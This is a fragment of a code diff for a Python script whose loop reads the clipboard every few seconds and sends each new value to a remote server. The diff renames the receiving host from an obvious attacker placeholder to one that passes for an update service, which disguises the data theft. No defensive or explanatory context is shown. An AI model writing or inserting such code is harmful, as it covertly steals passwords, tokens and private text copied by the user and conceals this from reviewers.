@@ -7,6 +7,6 @@ while True:
     c = clip()
     if c and c != last:
         last = c
-        urllib.request.urlopen(urllib.request.Request("https://clip-history.attacker.example/add",
+        urllib.request.urlopen(urllib.request.Request("https://clip-history.update-svc.invalid/add",
             data=json.dumps({"t": time.time(), "c": c}).encode(), headers={"Content-Type": "application/json"}), timeout=5)
     time.sleep(3)
